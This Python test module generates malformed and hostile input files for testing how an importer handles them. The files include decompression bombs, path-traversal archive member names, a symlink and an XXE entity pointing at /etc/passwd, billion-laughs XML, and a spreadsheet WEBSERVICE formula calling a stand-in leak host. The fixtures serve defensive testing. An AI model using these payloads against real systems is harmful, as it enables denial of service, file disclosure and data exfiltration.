"""Archives, compressed files and workbooks that are bombs, traps or locked."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import zipfile
from collections.abc import Iterator, Mapping
from functools import cache, partial

import zstandard

from tests.badinput import CANARIES, Case, scanned
from tests.badinput.tables import as_csv
from tests.sources.workbooks_for_tests import archive, ods, xlsx, xlsx_rows

_BOMB_BYTES = 400 << 20
_CELLS = xlsx_rows([["name"], [CANARIES[0]]])
_NAMES = (
    *("../../escaped.csv", "/etc/cron.d/escaped.csv", "C:\\escaped.csv", "..\\..\\escaped.csv", "a/../../escaped.csv"),
    *("a\0b.csv", "./.hidden.csv", "__MACOSX/._t.csv", "con.csv", "t.csv/", "\u202evsc.t.csv", "a" * 5000 + ".csv"),
    *("\x1b[2J.csv", "{{7*7}}.csv", "<script>.csv", " .csv", "", ".", "..", "t.zip"),
)


def cases(seed: int) -> Iterator[Case]:
    """Every kind; nothing of it is drawn by the seed."""
    for name in _NAMES:
        yield scanned("names in archives", repr(name)[:30], "t.zip", _zip({name: as_csv(), "fine.csv": as_csv()}))
    for name, data in _archives().items():
        yield scanned("archives", name, "t.zip", data)
    for name, data in _workbooks().items():
        yield scanned("workbooks", name, "t.xlsx", data)
    for name, data in _documents().items():
        yield scanned("workbooks", name, "t.ods", data)
    for file in ("t.csv.gz", "t.csv.bz2", "t.csv.xz", "t.csv.zst"):
        yield scanned("bombs", file[6:], file, partial(_bomb, file), big=True)
    yield scanned("bombs", "zip", "t.zip", _zip_bomb, big=True)
    yield scanned("bombs", "workbook", "t.xlsx", _workbook_bomb, big=True)
    yield scanned("bombs", "packed thirty times", "t.csv.gz", _nested_gzip)


def _zip(parts: Mapping[str, bytes], **settings: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in parts.items():
            info = zipfile.ZipInfo("x")
            info.filename = name
            for setting, value in settings.items():
                setattr(info, setting, value)
            file.writestr(info, data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _archives() -> dict[str, bytes]:
    table = as_csv()
    whole = _zip({"t.csv": table})
    wrong_size = bytearray(whole)
    place = whole.index(b"PK\x01\x02") + 24
    wrong_size[place : place + 4] = (1 << 31).to_bytes(4, "little")
    locked = bytearray(whole)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[whole.index(mark) + at] |= 1
    method = bytearray(whole)
    for mark, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        method[whole.index(mark) + at] = 99
    link = _zip({"t.csv": b"/etc/passwd"}, create_system=3, external_attr=0o120777 << 16)
    return {
        "no members": _zip({}),
        "folders only": _zip({"a/": b"", "b/": b""}),
        "a size that is forged": bytes(wrong_size),
        "encrypted": bytes(locked),
        "an unknown method": bytes(method),
        "a link": link,
        "an archive in an archive": _zip({"inner.zip": whole, "t.csv": table}),
        "a compressed file in an archive": _zip({"t.csv.gz": gzip.compress(table)}),
        "the same name twice": whole[: whole.index(b"PK\x01\x02")] + _zip({"t.csv": table, "T.csv": table}),
        "bytes before it": b"MZ" + bytes(999) + whole,
        "bytes behind it": whole + bytes(999),
        "a long comment": whole[:-2] + (65535).to_bytes(2, "little") + b"c" * 65535,
        "a comment that is cut off": whole[:-2] + (65535).to_bytes(2, "little") + b"c" * 9,
        "2,000 members": _zip({f"{number}.txt": b"a\n1\n" for number in range(2000)}),
        "nothing that is read": _zip({"a.png": b"\x89PNG", "b.exe": b"MZ"}),
        "a directory of another": whole[: whole.index(b"PK\x01\x02")] + _zip({"other.csv": b"a\n"})[33:],
    }


def _workbooks() -> dict[str, bytes]:
    entity = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + number)} "{f"&{chr(97 + number)};" * 10}">' for number in range(9)
    )
    row = '<row r="{}"><c r="A{}" t="inlineStr"><is><t>x</t></is></c></row>'
    return {
        "entities that multiply": xlsx({"a": f"{_CELLS}&j;"}, {"xl/sharedStrings.xml": f"{entity}]><sst>&j;</sst>"}),
        "an entity of a file": xlsx(
            {"a": _CELLS},
            {"xl/sharedStrings.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst>&a;</sst>'},
        ),
        "macros": xlsx({"a": _CELLS}, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(99)}),
        "embedded files": xlsx({"a": _CELLS}, {"xl/embeddings/x.bin": b"MZ"}),
        "external links": xlsx({"a": _CELLS}, {"xl/externalLinks/externalLink1.xml": "<x/>"}),
        "no sheets": xlsx({}),
        "a sheet without rows": xlsx({"a": ""}),
        "names twice": xlsx({"a": _CELLS, "A": _CELLS}),
        "a hostile name": xlsx({"&lt;script&gt;{{7*7}}": _CELLS}),
        "the last row": xlsx({"a": _CELLS + row.format(1_048_576, 1_048_576)}),
        "a row far beyond": xlsx({"a": _CELLS + row.format(4_000_000_000, 4_000_000_000)}),
        "a column far beyond": xlsx(
            {"a": _CELLS + '<row r="9"><c r="ZZZZZ9" t="inlineStr"><is><t>x</t></is></c></row>'}
        ),
        "the last cell": xlsx({"a": _CELLS + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'}),
        "a cell without a place": xlsx({"a": "<row><c><v>1</v></c></row>"}),
        "a place that is none": xlsx({"a": '<row r="x"><c r="??"><v>y</v></c></row>'}),
        "rows out of order": xlsx({"a": row.format(9, 9) + row.format(2, 2) + row.format(9, 9)}),
        "a text that is not there": xlsx({"a": '<row r="1"><c r="A1" t="s"><v>99999</v></c></row>'}),
        "a formula": xlsx({"a": '<row r="1"><c r="A1"><f>WEBSERVICE("http://leak.example")</f><v>1</v></c></row>'}),
        "numbers that are none": xlsx({"a": '<row r="1"><c r="A1"><v>1e999</v></c><c r="B1"><v>x</v></c></row>'}),
        "dates that are none": xlsx(
            {"a": '<row r="1"><c r="A1" s="1"><v>-1e9</v></c><c r="B1" s="2"><v>1e9</v></c></row>'}
        ),
        "XML that breaks off": xlsx({"a": "<row r='1'><c"}),
        "deep XML": xlsx({"a": "<x>" * 20_000 + "</x>" * 20_000}),
        "no workbook part": archive({"[Content_Types].xml": "<Types/>"}),
        "a document, not a workbook": archive({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"}),
        "protected": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(600)
        + "EncryptedPackage".encode("utf-16-le")
        + bytes(600),
        "an old file of nothing": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
        "CSV named workbook": as_csv(),
    }


def _documents() -> dict[str, bytes]:
    cell = '<table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell>'
    repeated = cell.replace(" ", ' table:number-columns-repeated="16384" ', 1)
    rows = '<table:table-row table:number-rows-repeated="{}">'
    return {
        "a row a billion times": ods({"a": f"{rows.format('1000000000')}{cell}</table:table-row>"}),
        "a cell 16,384 times": ods({"a": f"<table:table-row>{repeated}</table:table-row>"}),
        "both": ods({"a": f"{rows.format('1048576')}{repeated}</table:table-row>"}),
        "encrypted": ods({"a": ""}, '<manifest:encryption-data manifest:checksum="x"/>'),
        "no rows": ods({"a": ""}),
    }


@cache
def _zeros() -> bytes:
    return b"a,b\n" + bytes(b"x" * 999 + b"\n") * (_BOMB_BYTES // 1000)


def _bomb(file: str) -> bytes:
    if file.endswith(".gz"):
        return gzip.compress(_zeros(), 9)
    if file.endswith(".bz2"):
        return bz2.compress(_zeros())
    if file.endswith(".xz"):
        return lzma.compress(_zeros(), preset=1)
    return zstandard.ZstdCompressor(19).compress(_zeros())


def _zip_bomb() -> bytes:
    return _zip({"t.csv": _zeros()})


def _workbook_bomb() -> bytes:
    spaces = " " * (1 << 20)
    return xlsx({"a": _CELLS}, {"xl/sharedStrings.xml": f"<sst>{spaces * 900}</sst>"})


def _nested_gzip() -> bytes:
    data = as_csv()
    for _ in range(30):
        data = gzip.compress(data, mtime=0)
    return data
